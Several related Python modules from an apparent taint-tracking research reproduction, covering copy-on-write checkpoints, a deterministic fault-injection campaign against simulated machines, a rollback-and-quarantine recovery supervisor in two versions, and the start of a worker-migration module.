        small state and epoch are adopted wholesale); the caller must
        repoint any grandchildren's ``parent`` at this object.  Pages
        dirtied back to all-zero are dropped (at base level, absence
        already means zero).
        """
        if delta.parent is not self:
            raise ValueError("can only absorb a direct child delta")
        for pno, data in delta.pages.items():
            if data == _ZERO_PAGE:
                self.pages.pop(pno, None)
            else:
                self.pages[pno] = data
        for attr, value in delta.__dict__.items():
            if attr in ("pages", "parent"):
                continue
            setattr(self, attr, value)


class DeltaCheckpoint(_SnapshotBase):
    """A copy-on-write checkpoint: only pages written since ``parent``.

    Valid only when the machine's dirty set is still relative to the
    parent (``memory.dirty_epoch == parent.epoch``) — the supervisor
    checks this and falls back to a full snapshot when some other
    checkpoint has claimed the epoch in between.
    """

    kind = "delta"

    @classmethod
    def capture(cls, machine, parent: _SnapshotBase) -> "DeltaCheckpoint":
        """Capture the pages dirtied since ``parent`` + small state."""
        mem = machine.memory
        if mem.dirty_epoch != parent.epoch:
            raise ValueError(
                "dirty set is not relative to the given parent "
                f"(epoch {mem.dirty_epoch} != {parent.epoch})")
        self = cls()
        self._capture_state(machine)

        # A dirtied page was written through store()/write_bytes(), both
        # of which allocate, so it always exists; pages dirtied back to
        # all-zero are captured anyway — a restore must see the zeros
        # even when an ancestor holds non-zero content.
        pages = mem._pages
        self.pages = {
            pno: bytes(pages[pno]) for pno in mem.dirty_pages()
        }
        self.parent = parent
        self.epoch = mem.begin_epoch()
        return self
