"""Deterministic fault-injection campaign (seeded, no wall-clock).

Four injection kinds probe the tracking core and the recovery story:

* ``tag_flip`` — flip a taint-bitmap bit under a *clean* buffer whose
  bytes feed load addresses (the victim kernel below), so the corrupted
  tag must surface as an L1 NaT-consumption at the next table lookup.
  This is the "spurious tag" half of the detection claim: a tag bit
  that feeds a sink is never silently dropped.
* ``nat_drop`` — set the NaT bit of a register about to be consumed as
  a load/store address in a strict-compiled SPEC kernel (the hardware
  bit-flip the paper's deferred-exception machinery must catch).  The
  injector scans a short straight-line window ahead of the paused pc
  for a plain (non-speculative) memory op whose address register is
  not rewritten first, so a NaT planted there is guaranteed to reach
  its consumption point.
* ``read_truncate`` — deliver file reads short (graceful-degradation
  probe: the guest must complete, with zero alerts).
* ``transient`` — fail individual device I/O attempts; the natives'
  bounded retry-with-backoff must absorb them.

Everything is driven by a small LCG stream seeded per trial, so every
campaign run replays bit-for-bit; the same machinery also backs the
differential checkpoint test (inject under both engines, compare).
"""

from __future__ import annotations

from dataclasses import asdict, dataclass
from typing import Dict, List, Optional, Tuple

from repro.compiler.instrument import ShiftOptions
from repro.core.shift import build_machine, compile_protected
from repro.cpu.faults import Fault, NaTConsumptionFault
from repro.isa.instruction import OpKind
from repro.isa.operands import RegClass
from repro.resil.transient import TransientErrorInjector
from repro.taint.engine import SecurityAlert
from repro.taint.policy import PolicyConfig

_MASK64 = (1 << 64) - 1


class CampaignRng:
    """Seeded LCG: the campaign's only randomness source (replayable)."""

    def __init__(self, seed: int) -> None:
        self._state = (seed or 1) & _MASK64

    def uniform(self) -> float:
        """Next sample in [0, 1)."""
        self._state = (self._state * 6364136223846793005
                       + 1442695040888963407) & _MASK64
        return ((self._state >> 33) & 0x7FFFFFFF) / float(1 << 31)

    def randrange(self, n: int) -> int:
        """Next integer in [0, n)."""
        return int(self.uniform() * n) if n > 1 else 0


@dataclass
class TrialResult:
    """Outcome of one injection trial."""

    workload: str
    kind: str  # 'control' | 'tag_flip' | 'nat_drop' | 'read_truncate' | 'transient'
    seed: int
    armed: bool  # the injection demonstrably feeds a sink
    detected: bool  # a SecurityAlert / NaT fault surfaced
    completed: bool  # the guest ran to completion (degradation probes)
    false_alert: bool  # an alert fired when none should have
    detail: str = ""

    def to_dict(self) -> dict:
        return asdict(self)


#: Tag-flip victim: a clean input buffer whose bytes index a table on
#: every pass, so a flipped tag bit under ``buf`` becomes a tainted
#: load address (policy L1) on the next pass.  Compiled strict.
VICTIM_PASSES = 6
VICTIM_BUF = 64
VICTIM_SOURCE = """
native int read(int fd, char *buf, int n);
char buf[64];
char table[512];
int result;
int main() {
    read(0, buf, 64);
    int acc = 0;
    for (int pass = 0; pass < 6; pass = pass + 1) {
        for (int i = 0; i < 64; i = i + 1) {
            acc = acc + table[buf[i]];
        }
    }
    result = acc;
    return acc & 255;
}
"""

_STRICT_BYTE = ShiftOptions(granularity=1)
_victim_compiled = None


def _victim_policy() -> PolicyConfig:
    """stdin is *trusted* here: control runs must carry zero taint."""
    config = PolicyConfig()
    config.tainted_sources["stdin"] = False
    return config


def victim_machine(engine: str = "predecoded", **kwargs):
    """A fresh strict-compiled victim machine with clean 64-byte input."""
    global _victim_compiled
    if _victim_compiled is None:
        _victim_compiled = compile_protected(VICTIM_SOURCE, _STRICT_BYTE)
    return build_machine(_victim_compiled, policy_config=_victim_policy(),
                         stdin=bytes(range(VICTIM_BUF)), engine=engine,
                         **kwargs)


def spec_machine(bench_name: str, scale: str = "test",
                 engine: str = "predecoded", **kwargs):
    """A strict-compiled SPEC kernel with *trusted* file input."""
    from repro.apps.spec import BENCHMARKS
    from repro.harness.runners import compiled_spec, spec_policy

    bench = BENCHMARKS[bench_name]
    compiled = compiled_spec(bench, _STRICT_BYTE, scale)
    return build_machine(compiled, policy_config=spec_policy(True),
                         files={"/data": bench.make_input(scale)},
                         engine=engine, **kwargs)


# -- injection primitives ------------------------------------------------

def _emit_injection(machine, kind: str, detail: str) -> None:
    if machine.obs is None:
        return
    from repro.obs.events import InjectionEvent

    machine.obs.tracer.emit(InjectionEvent(
        kind=kind, detail=detail,
        instruction_count=machine.cpu.counters.instructions))


def flip_tag(machine, addr: int) -> str:
    """Set the taint tag of one byte (a stuck/flipped bitmap bit)."""
    machine.taint_map.set_taint(addr, True)
    detail = f"tag bit set at {addr:#x}"
    _emit_injection(machine, "tag_flip", detail)
    return detail


#: Opcode families that end the straight-line nat-drop scan window.
_SCAN_STOP = (OpKind.BRANCH, OpKind.CHK, OpKind.SYS,
              OpKind.MOVBR, OpKind.MOVAR)


def _scan_nat_candidate(machine, window: int) -> Optional[Tuple[int, int]]:
    """(register, pc) of a guaranteed NaT consumption ahead of cpu.pc.

    Walks at most ``window`` instructions of unpredicated straight-line
    code for a plain load/store whose GR address register is not
    rewritten in between; stops at branches, checks, breaks and
    predicated instructions, and skips ``.s`` speculative loads (they
    defer a NaT address instead of faulting).
    """
    cpu = machine.cpu
    code = machine.program.code
    n = len(code)
    pc = cpu.pc
    written = set()
    for offset in range(window):
        idx = pc + offset
        if idx >= n:
            return None
        instr = code[idx]
        if instr.qp:
            return None
        kind = instr.kind
        if kind in _SCAN_STOP:
            return None
        if (kind in (OpKind.LOAD, OpKind.STORE)
                and not instr.op.endswith(".s")):
            addr_reg = instr.ins[0]
            if (addr_reg.cls is RegClass.GR and addr_reg.index != 0
                    and addr_reg.index not in written
                    and not cpu.nat[addr_reg.index]):
                return addr_reg.index, idx
        for out in instr.outs:
            if out.cls is RegClass.GR:
                written.add(out.index)
    return None


def arm_nat_drop(machine, rng: CampaignRng, *, window: int = 16,
                 attempts: int = 24) -> Optional[str]:
    """Drop a NaT on a register that must reach a memory consumption.

    Retries at nearby pause points (small forward slices) when the
    current pc has no guaranteed straight-line candidate.  Returns the
    injection detail, or None when the guest halted before a candidate
    was found (the trial is then unarmed).
    """
    cpu = machine.cpu
    for _ in range(attempts):
        if cpu.halted:
            return None
        found = _scan_nat_candidate(machine, window)
        if found is not None:
            reg, consume_pc = found
            cpu.nat[reg] = True
            detail = (f"NaT dropped on r{reg} at pc={cpu.pc}, "
                      f"consumed by pc={consume_pc}")
            _emit_injection(machine, "nat_drop", detail)
            return detail
        cpu.run_slice(50 + rng.randrange(200))
    return None


# -- trial runners -------------------------------------------------------

_calibration: Dict[str, Tuple[int, int]] = {}


def _calibrate(workload: str, make_machine) -> Tuple[int, int]:
    """(clean instruction count, clean result) for a workload, cached."""
    cached = _calibration.get(workload)
    if cached is None:
        machine = make_machine()
        machine.run(max_instructions=500_000_000)
        if machine.alerts:
            raise AssertionError(
                f"control run of {workload} raised alerts: {machine.alerts}")
        result = (machine.read_global("result")
                  if "result" in machine.symbols else 0)
        cached = (machine.counters.instructions, result)
        _calibration[workload] = cached
    return cached


def _resume_and_classify(machine, budget: int) -> Tuple[bool, bool, str]:
    """(detected, completed, detail) after resuming an injected run."""
    try:
        machine.run(max_instructions=budget)
    except SecurityAlert as exc:
        return True, False, f"alert {exc.policy_id}: {exc}"
    except NaTConsumptionFault as exc:
        return True, False, f"nat fault: {exc}"
    except Fault as exc:
        return False, False, f"crashed: {exc}"
    return bool(machine.alerts), True, ""


def tag_flip_trial(seed: int, engine: str = "predecoded") -> TrialResult:
    """Flip one tag bit under the victim's buffer mid-run."""
    rng = CampaignRng(seed)
    clean_count, _ = _calibrate(f"victim[{engine}]",
                                lambda: victim_machine(engine))
    # Pause somewhere with at least one full lookup pass still to run.
    pause = int(clean_count * (0.05 + 0.60 * rng.uniform()))
    machine = victim_machine(engine)
    machine.cpu.run_slice(max(pause, 1))
    armed = not machine.cpu.halted
    detail = ""
    if armed:
        addr = machine.address_of("buf") + rng.randrange(VICTIM_BUF)
        detail = flip_tag(machine, addr)
    detected, completed, why = _resume_and_classify(
        machine, clean_count * 4 + 1_000_000)
    return TrialResult(workload="victim", kind="tag_flip", seed=seed,
                       armed=armed, detected=detected, completed=completed,
                       false_alert=False, detail=detail or why)


def nat_drop_trial(bench_name: str, seed: int, scale: str = "test",
                   engine: str = "predecoded") -> TrialResult:
    """Drop a NaT bit on a consumed address register in a SPEC kernel."""
    rng = CampaignRng(seed)
    workload = f"{bench_name}[{scale},{engine}]"
    clean_count, _ = _calibrate(
        workload, lambda: spec_machine(bench_name, scale, engine))
    pause = int(clean_count * (0.05 + 0.85 * rng.uniform()))
    machine = spec_machine(bench_name, scale, engine)
    machine.cpu.run_slice(max(pause, 1))
    detail = arm_nat_drop(machine, rng)
    armed = detail is not None
    detected, completed, why = (False, True, "halted before arming")
    if armed:
        detected, completed, why = _resume_and_classify(
            machine, clean_count * 4 + 1_000_000)
    return TrialResult(workload=bench_name, kind="nat_drop", seed=seed,
                       armed=armed, detected=detected, completed=completed,
                       false_alert=False, detail=detail or why)


def read_truncate_trial(bench_name: str, seed: int, scale: str = "test",
                        engine: str = "predecoded") -> TrialResult:
    """Short file reads: the kernel must finish with zero alerts."""
    _, clean_result = _calibrate(
        f"{bench_name}[{scale},{engine}]",
        lambda: spec_machine(bench_name, scale, engine))
    machine = spec_machine(bench_name, scale, engine)
    machine.fs.faults = TransientErrorInjector(seed, truncate_rate=0.5)
    try:
        machine.run(max_instructions=500_000_000)
        completed = True
        detail = ""
    except (SecurityAlert, Fault) as exc:
        completed = False
        detail = f"died: {exc}"
    false_alert = bool(machine.alerts)
    if completed:
        result = (machine.read_global("result")
                  if "result" in machine.symbols else 0)
        cuts = machine.fs.faults.injected_truncations
        detail = (f"{cuts} short reads, result "
                  + ("unchanged" if result == clean_result else "degraded"))
    return TrialResult(workload=bench_name, kind="read_truncate", seed=seed,
                       armed=False, detected=False, completed=completed,
                       false_alert=false_alert, detail=detail)


def transient_trial(seed: int, engine: str = "predecoded",
                    requests: int = 4) -> TrialResult:
    """Transient net/file errors under the webserver's retry path."""
    from repro.apps.webserver import make_request
    from repro.harness.runners import PERF_OPTIONS, build_web_machine

    machine = build_web_machine(
        "standard", PERF_OPTIONS["byte"], sizes=(2,), engine=engine)
    machine.net.faults = TransientErrorInjector(seed, fail_rate=0.25)
    machine.fs.faults = TransientErrorInjector(seed ^ 0x9E3779B9,
                                               fail_rate=0.25)
    for _ in range(requests):
        machine.net.add_request(make_request(2))
    try:
        served = machine.run(max_instructions=500_000_000)
        completed = True
    except (SecurityAlert, Fault) as exc:
        served, completed = 0, False
    failures = (machine.net.faults.injected_failures
                + machine.fs.faults.injected_failures)
    return TrialResult(
        workload="webserver", kind="transient", seed=seed,
        armed=failures > 0, detected=False, completed=completed,
        false_alert=bool(machine.alerts),
        detail=(f"served {served}/{requests}, {failures} transient errors, "
                f"{machine.os.io_retries} retries, "
                f"{machine.os.io_failures} gave up"))


# -- the campaign --------------------------------------------------------

def run_campaign(*, trials_per_kind: int = 10, seed: int = 12345,
                 engine: str = "predecoded", quick: bool = False,
                 nat_drop_benches: Tuple[str, ...] = ("gzip", "mcf"),
                 scale: str = "test") -> dict:
    """Run every injection kind; returns the aggregate summary dict."""
    if quick:
        trials_per_kind = min(trials_per_kind, 4)
        nat_drop_benches = nat_drop_benches[:1]
    trials: List[TrialResult] = []

    # Uninjected controls (calibration runs double as the zero-false-
    # alert baseline; _calibrate raises if a control run alerts).
    controls = []
    for workload, make in [
        (f"victim[{engine}]", lambda: victim_machine(engine)),
    ] + [(f"{b}[{scale},{engine}]",
          lambda b=b: spec_machine(b, scale, engine))
         for b in nat_drop_benches]:
        count, _ = _calibrate(workload, make)
        controls.append({"workload": workload, "instructions": count,
                         "false_alerts": 0})

    for i in range(trials_per_kind):
        trials.append(tag_flip_trial(seed + i, engine))
    for bench in nat_drop_benches:
        for i in range(trials_per_kind):
            trials.append(nat_drop_trial(bench, seed + 1000 + i,
                                         scale, engine))
    for i in range(max(2, trials_per_kind // 2)):
        trials.append(read_truncate_trial(nat_drop_benches[0],
                                          seed + 2000 + i, scale, engine))
    for i in range(max(2, trials_per_kind // 2)):
        trials.append(transient_trial(seed + 3000 + i, engine))

    summary: Dict[str, dict] = {}
    for kind in ("tag_flip", "nat_drop", "read_truncate", "transient"):
        subset = [t for t in trials if t.kind == kind]
        armed = [t for t in subset if t.armed]
        detected = [t for t in armed if t.detected]
        entry = {
            "trials": len(subset),
            "armed": len(armed),
            "detected": len(detected),
            "completed": sum(1 for t in subset if t.completed),
            "false_alerts": sum(1 for t in subset if t.false_alert),
        }
        if kind in ("tag_flip", "nat_drop"):
            entry["detection_rate"] = (
                len(detected) / len(armed) if armed else None)
        summary[kind] = entry

    return {
        "seed": seed,
        "engine": engine,
        "scale": scale,
        "controls": controls,
        "kinds": summary,
        "trials": [t.to_dict() for t in trials],
    }
