"""The ``recover`` policy mode: rollback + quarantine + resume.

The paper (2.3) argues a detected NaT consumption is a *deferred,
recoverable* exception; Raksha's security monitor makes the same point.
This module is that monitor.  A :class:`ResilienceSupervisor` drives
the CPU in bounded slices; the guest-OS ``accept`` native captures a
:class:`~repro.resil.checkpoint.MachineCheckpoint` at every request
boundary (before the connection is dequeued), so when a request
triggers a :class:`~repro.taint.engine.SecurityAlert`, a
:class:`~repro.cpu.faults.Fault` (including ``GuestOOMFault``) or blows
its per-request instruction-budget watchdog, the supervisor

1. rolls the machine back to the last checkpoint (the offending
   request is back at the head of the pending queue),
2. quarantines that connection (pops it into ``net.quarantined`` and
   records a :class:`QuarantineIncident`), and
3. resumes — the guest re-executes ``accept`` and serves the next
   request as if the attack had never run.

Because every recovery removes exactly one pending request, progress is
guaranteed; ``max_recoveries`` is only a backstop.  A fault that occurs
with *no* request pending at the checkpoint would recur
deterministically after rollback, so it is re-raised instead.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import List, Optional

from repro.cpu.faults import Fault, GuestOOMFault, RunawayError
from repro.resil.checkpoint import MachineCheckpoint
from repro.taint.engine import SecurityAlert


@dataclass
class QuarantineIncident:
    """One recovered abort: what happened, and what it cost."""

    request_index: int  # Connection.index of the quarantined request
    reason: str  # 'alert' | 'fault' | 'oom' | 'runaway'
    policy_id: str  # SHIFT policy id for alerts, else ""
    message: str
    pc: int  # pc at the abort point
    instruction_count: int  # instruction count at the abort point
    rolled_back_to: int  # instruction count restored by the rollback
    worker: str = ""  # machine id of the recovering machine (fleet)


class ResilienceSupervisor:
    """Checkpoint/rollback recovery loop around one machine."""

    def __init__(self, machine, *, watchdog: Optional[int] = None,
                 max_recoveries: int = 1000, label: str = "") -> None:
        self.machine = machine
        #: Machine identity stamped on incidents — in a fleet this names
        #: the worker that rolled back ("w3 quarantined request 5").
        self.label = label
        #: Per-request instruction budget; None disables the watchdog.
        self.watchdog = watchdog
        self.max_recoveries = max_recoveries
        self.incidents: List[QuarantineIncident] = []
        self.recoveries = 0
        self.checkpoints_taken = 0
        self._checkpoint: Optional[MachineCheckpoint] = None
        self._checkpoint_instr = 0

    # -- checkpointing -------------------------------------------------

    def on_request_boundary(self) -> None:
        """Capture a checkpoint (called by the accept native, pre-pop)."""
        self._checkpoint = MachineCheckpoint.capture(self.machine)
        self._checkpoint_instr = self._checkpoint.instruction_count
        self.checkpoints_taken += 1
        obs = self.machine.obs
        if obs is not None:
            from repro.obs.events import CheckpointEvent

            obs.tracer.emit(CheckpointEvent(
                reason="request_boundary",
                pages=self._checkpoint.page_count,
                pending_requests=self._checkpoint.pending_requests,
                instruction_count=self._checkpoint_instr))

    # -- the supervised run loop ---------------------------------------

    def run_supervised(self, max_instructions: int = 200_000_000) -> int:
        """Run the guest to completion, recovering aborts; exit code."""
        machine = self.machine
        cpu = machine.cpu
        if "thread_create" in machine.program.natives:
            return self._run_threaded(max_instructions)
        start = cpu.counters.instructions
        while True:
            if cpu.halted:
                return cpu.exit_code
            remaining = max_instructions - (cpu.counters.instructions - start)
            if remaining <= 0:
                raise RunawayError("instruction budget exhausted (supervised)")
            slice_budget = remaining
            if self.watchdog is not None and self._checkpoint is not None:
                elapsed = cpu.counters.instructions - self._checkpoint_instr
                wd_remaining = self.watchdog - elapsed
                if wd_remaining <= 0:
                    self._recover("runaway", RunawayError(
                        f"request exceeded its {self.watchdog}-instruction "
                        "watchdog"))
                    continue
                slice_budget = min(slice_budget, wd_remaining)
            try:
                executed = cpu.run_slice(slice_budget)
            except SecurityAlert as exc:
                self._recover("alert", exc)
                continue
            except Fault as exc:
                self._recover("oom" if isinstance(exc, GuestOOMFault)
                              else "fault", exc)
                continue
            if executed == 0 and not cpu.halted:
                raise RunawayError("supervised guest made no progress")

    def _run_threaded(self, max_instructions: int) -> int:
        """Coarse recovery around the thread scheduler (no watchdog)."""
        from repro.runtime.threads import DeadlockError

        machine = self.machine
        while True:
            try:
                return machine.threads.run_all(
                    max_instructions=max_instructions)
            except SecurityAlert as exc:
                self._recover("alert", exc)
            except DeadlockError as exc:
                self._recover("fault", exc)
            except RunawayError:
                raise
            except Fault as exc:
                self._recover("oom" if isinstance(exc, GuestOOMFault)
                              else "fault", exc)

    # -- rollback ------------------------------------------------------

    def _recover(self, reason: str, exc: BaseException) -> None:
        """Roll back to the last checkpoint and quarantine the offender.

        Re-raises ``exc`` when recovery cannot help: no checkpoint yet,
        no request was pending at the checkpoint (the abort would recur
        deterministically), or the recovery backstop is exhausted.
        """
        cp = self._checkpoint
        if (cp is None or cp.pending_head_index < 0
                or self.recoveries >= self.max_recoveries):
            raise exc
        machine = self.machine
        abort_pc = getattr(exc, "pc", -1)
        if abort_pc is None or abort_pc < 0:
            abort_pc = machine.cpu.pc
        abort_instr = machine.cpu.counters.instructions
        policy_id = getattr(exc, "policy_id", "") or ""

        cp.restore(machine)
        offender = machine.net.pending.popleft()
        machine.net.quarantined.append(offender)
        self.recoveries += 1

        incident = QuarantineIncident(
            request_index=offender.index,
            reason=reason,
            policy_id=policy_id,
            message=str(exc),
            pc=abort_pc,
            instruction_count=abort_instr,
            rolled_back_to=cp.instruction_count,
            worker=self.label)
        self.incidents.append(incident)

        obs = machine.obs
        if obs is not None:
            from repro.obs.events import QuarantineEvent, RollbackEvent

            obs.tracer.emit(RollbackEvent(
                reason=reason, detail=str(exc), pc=abort_pc,
                instruction_count=abort_instr,
                restored_instruction_count=cp.instruction_count))
            obs.tracer.emit(QuarantineEvent(
                request_index=offender.index, reason=reason,
                policy_id=policy_id,
                instruction_count=cp.instruction_count))
