"""The ``recover`` policy mode: rollback + quarantine + resume.

The paper (2.3) argues a detected NaT consumption is a *deferred,
recoverable* exception; Raksha's security monitor makes the same point.
This module is that monitor.  A :class:`ResilienceSupervisor` drives
the CPU in bounded slices; the guest-OS ``accept`` native captures a
:class:`~repro.resil.checkpoint.MachineCheckpoint` at every request
boundary (before the connection is dequeued), so when a request
triggers a :class:`~repro.taint.engine.SecurityAlert`, a
:class:`~repro.cpu.faults.Fault` (including ``GuestOOMFault``) or blows
its per-request instruction-budget watchdog, the supervisor

1. rolls the machine back to the last checkpoint (the offending
   request is back at the head of the pending queue),
2. quarantines that connection (pops it into ``net.quarantined`` and
   records a :class:`QuarantineIncident`), and
3. resumes — the guest re-executes ``accept`` and serves the next
   request as if the attack had never run.

Because every recovery removes exactly one pending request, progress is
guaranteed; ``max_recoveries`` is only a backstop.  A fault that occurs
with *no* request pending at the checkpoint would recur
deterministically after rollback, so it is re-raised instead.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import List, Optional

from repro.cpu.faults import Fault, GuestOOMFault, RunawayError
from repro.resil.checkpoint import (DeltaCheckpoint, MachineCheckpoint,
                                    _SnapshotBase)
from repro.taint.engine import SecurityAlert


@dataclass
class QuarantineIncident:
    """One recovered abort: what happened, and what it cost."""

    request_index: int  # Connection.index of the quarantined request
    reason: str  # 'alert' | 'fault' | 'oom' | 'runaway'
    policy_id: str  # SHIFT policy id for alerts, else ""
    message: str
    pc: int  # pc at the abort point
    instruction_count: int  # instruction count at the abort point
    rolled_back_to: int  # instruction count restored by the rollback
    worker: str = ""  # machine id of the recovering machine (fleet)
    checkpoint_kind: str = "full"  # 'full' | 'delta' — what was restored
    checkpoint_pages: int = 0  # pages the restored snapshot captured
    checkpoint_bytes: int = 0  # page bytes the restored snapshot captured


class ResilienceSupervisor:
    """Checkpoint/rollback recovery loop around one machine.

    Checkpoints form a copy-on-write chain: the first capture is a full
    :class:`MachineCheckpoint`; subsequent request boundaries capture
    :class:`DeltaCheckpoint`\\ s holding only the pages written since the
    previous checkpoint (``use_delta=False`` restores the old
    full-snapshot-every-time behaviour for differential testing).  The
    chain is compacted by folding the oldest delta into the base once it
    exceeds ``max_chain`` links, bounding both restore depth and held
    memory.
    """

    def __init__(self, machine, *, watchdog: Optional[int] = None,
                 max_recoveries: int = 1000, label: str = "",
                 use_delta: bool = True, max_chain: int = 64) -> None:
        self.machine = machine
        #: Machine identity stamped on incidents — in a fleet this names
        #: the worker that rolled back ("w3 quarantined request 5").
        self.label = label
        #: Per-request instruction budget; None disables the watchdog.
        self.watchdog = watchdog
        self.max_recoveries = max_recoveries
        self.use_delta = use_delta
        self.max_chain = max_chain
        self.incidents: List[QuarantineIncident] = []
        self.recoveries = 0
        self.checkpoints_taken = 0
        #: Capture-cost accounting (surfaced as resil.* metrics).
        self.full_captures = 0
        self.delta_captures = 0
        self.pages_captured = 0
        self.bytes_captured = 0
        #: Base + deltas, oldest first; the tip is what _recover restores.
        self.chain: List[_SnapshotBase] = []
        self._checkpoint: Optional[_SnapshotBase] = None
        self._checkpoint_instr = 0

    # -- checkpointing -------------------------------------------------

    def on_request_boundary(self) -> None:
        """Capture a checkpoint (called by the accept native, pre-pop)."""
        self.checkpoint_now("request_boundary")

    def checkpoint_now(self, reason: str = "manual") -> _SnapshotBase:
        """Capture the next checkpoint in the chain and return it.

        Takes a delta whenever the live dirty set is provably relative
        to the current tip (its epoch token matches); anything else —
        first capture, ``use_delta=False``, or an outside caller such as
        ``machine.checkpoint()`` having claimed the epoch in between —
        falls back to a fresh full snapshot, which is always correct.
        """
        machine = self.machine
        cp: _SnapshotBase
        if (self.use_delta and self.chain
                and machine.memory.dirty_epoch == self.chain[-1].epoch):
            cp = DeltaCheckpoint.capture(machine, self.chain[-1])
            self.delta_captures += 1
            self.chain.append(cp)
            if len(self.chain) > self.max_chain:
                base = self.chain[0]
                base.absorb(self.chain[1])
                del self.chain[1]
                if len(self.chain) > 1:
                    self.chain[1].parent = base
        else:
            cp = MachineCheckpoint.capture(machine)
            self.full_captures += 1
            self.chain = [cp]
        # The tip is what _recover restores; at max_chain=1 the fold
        # above absorbs the fresh delta straight into the base, which
        # is then state-identical to it.
        self._checkpoint = self.chain[-1]
        self._checkpoint_instr = cp.instruction_count
        self.checkpoints_taken += 1
        self.pages_captured += cp.page_count
        self.bytes_captured += cp.byte_size
        obs = machine.obs
        if obs is not None:
            from repro.obs.events import CheckpointEvent

            obs.tracer.emit(CheckpointEvent(
                reason=reason,
                pages=cp.page_count,
                pending_requests=cp.pending_requests,
                instruction_count=self._checkpoint_instr,
                snapshot=cp.kind,
                captured_bytes=cp.byte_size,
                chain_length=len(self.chain)))
        return cp

    # -- the supervised run loop ---------------------------------------

    def run_supervised(self, max_instructions: int = 200_000_000) -> int:
        """Run the guest to completion, recovering aborts; exit code."""
        machine = self.machine
        cpu = machine.cpu
        if "thread_create" in machine.program.natives:
            return self._run_threaded(max_instructions)
        start = cpu.counters.instructions
        while True:
            if cpu.halted:
                return cpu.exit_code
            remaining = max_instructions - (cpu.counters.instructions - start)
            if remaining <= 0:
                raise RunawayError("instruction budget exhausted (supervised)")
            slice_budget = remaining
            if self.watchdog is not None and self._checkpoint is not None:
                elapsed = cpu.counters.instructions - self._checkpoint_instr
                wd_remaining = self.watchdog - elapsed
                if wd_remaining <= 0:
                    self._recover("runaway", RunawayError(
                        f"request exceeded its {self.watchdog}-instruction "
                        "watchdog"))
                    continue
                slice_budget = min(slice_budget, wd_remaining)
            try:
                executed = cpu.run_slice(slice_budget)
            except SecurityAlert as exc:
                self._recover("alert", exc)
                continue
            except Fault as exc:
                self._recover("oom" if isinstance(exc, GuestOOMFault)
                              else "fault", exc)
                continue
            if executed == 0 and not cpu.halted:
                raise RunawayError("supervised guest made no progress")

    def _run_threaded(self, max_instructions: int) -> int:
        """Coarse recovery around the thread scheduler (no watchdog)."""
        from repro.runtime.threads import DeadlockError

        machine = self.machine
        while True:
            try:
                return machine.threads.run_all(
                    max_instructions=max_instructions)
            except SecurityAlert as exc:
                self._recover("alert", exc)
            except DeadlockError as exc:
                self._recover("fault", exc)
            except RunawayError:
                raise
            except Fault as exc:
                self._recover("oom" if isinstance(exc, GuestOOMFault)
                              else "fault", exc)

    # -- rollback ------------------------------------------------------

    def _recover(self, reason: str, exc: BaseException) -> None:
        """Roll back to the last checkpoint and quarantine the offender.

        Re-raises ``exc`` when recovery cannot help: no checkpoint yet,
        no request was pending at the checkpoint (the abort would recur
        deterministically), or the recovery backstop is exhausted.
        """
        spec = getattr(self.machine, "spec", None)
        if spec is not None and spec.active:
            # The abort happened inside a speculation epoch: roll back
            # to the *epoch* entry and replay the slice under full
            # tracking instead of quarantining.  A genuine alert/fault
            # re-fires during the replay with the epoch closed and
            # recovery proceeds normally then.
            spec.handle_trip(exc)
            return
        cp = self._checkpoint
        if (cp is None or cp.pending_head_index < 0
                or self.recoveries >= self.max_recoveries):
            raise exc
        machine = self.machine
        abort_pc = getattr(exc, "pc", -1)
        if abort_pc is None or abort_pc < 0:
            abort_pc = machine.cpu.pc
        abort_instr = machine.cpu.counters.instructions
        policy_id = getattr(exc, "policy_id", "") or ""

        cp.restore(machine)
        offender = machine.net.pending.popleft()
        machine.net.quarantined.append(offender)
        self.recoveries += 1

        incident = QuarantineIncident(
            request_index=offender.index,
            reason=reason,
            policy_id=policy_id,
            message=str(exc),
            pc=abort_pc,
            instruction_count=abort_instr,
            rolled_back_to=cp.instruction_count,
            worker=self.label,
            checkpoint_kind=cp.kind,
            checkpoint_pages=cp.page_count,
            checkpoint_bytes=cp.byte_size)
        self.incidents.append(incident)

        obs = machine.obs
        if obs is not None:
            from repro.obs.events import QuarantineEvent, RollbackEvent

            obs.tracer.emit(RollbackEvent(
                reason=reason, detail=str(exc), pc=abort_pc,
                instruction_count=abort_instr,
                restored_instruction_count=cp.instruction_count))
            obs.tracer.emit(QuarantineEvent(
                request_index=offender.index, reason=reason,
                policy_id=policy_id,
                instruction_count=cp.instruction_count))
