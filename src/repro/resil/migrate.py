"""Live worker migration: checkpoint chains as a wire transport.

A delta chain (:mod:`repro.resil.checkpoint`) is a complete, serialisable
description of a machine: base snapshot + per-request COW deltas, small
register/OS/provenance state included.  :func:`pack_worker` turns one
into a self-describing wire blob; :func:`rehydrate_worker` applies it to
a *freshly built* twin machine (same program, same configuration), which
then resumes exactly where the source stood — pending requests, live
taint bitmap, provenance, perf counters and all.  The fleet layer uses
this to move in-flight workers between hosts (rebalancing, zero-downtime
drain) instead of routing around them.

What travels by value, beyond the chain itself:

* console output, executed commands/queries — the checkpoint captures
  only their *lengths* (restore truncates, which suffices on the source
  machine where the content already exists); a fresh target starts
  empty, so the blob carries the actual prefixes and rehydrate seeds
  them before restoring.
* ``SimNetwork`` bookkeeping that restore deliberately preserves as
  external facts: the arrival counter, the drop counter and the
  quarantined-connection list.
* supervisor evidence (incidents, recovery counts) so forensic history
  survives the move.

Connection objects are shared by reference between the checkpoint state
and the fd table; a single pickle of the whole payload preserves that
sharing on the target.  The blob is integrity-checked (CRC32) and the
target's program is fingerprint-matched before anything is touched —
rehydrating onto a machine running different code would corrupt it.
"""

from __future__ import annotations

import hashlib
import pickle
import struct
import zlib
from typing import Optional

from repro.resil.checkpoint import MachineCheckpoint, _SnapshotBase

#: Wire magic + format version.
MAGIC = b"SHFTMIG1"

_HEADER = struct.Struct("<I")  # crc32 of the pickled payload


class MigrationError(Exception):
    """A blob failed validation or does not match the target machine."""


def program_fingerprint(machine) -> str:
    """Deterministic digest of the guest program a machine runs."""
    h = hashlib.sha256()
    for instr in machine.program.code:
        h.update(str(instr).encode())
        h.update(b"\n")
    h.update(",".join(sorted(machine.program.natives)).encode())
    return h.hexdigest()


def pack_worker(machine, checkpoint: Optional[_SnapshotBase] = None, *,
                reason: str = "migrate",
                watermark: Optional[int] = None) -> bytes:
    """Serialise a worker's state (base + deltas) into a wire blob.

    With ``checkpoint=None`` the blob carries the machine's *current*
    state: a supervised machine appends one more delta to its chain
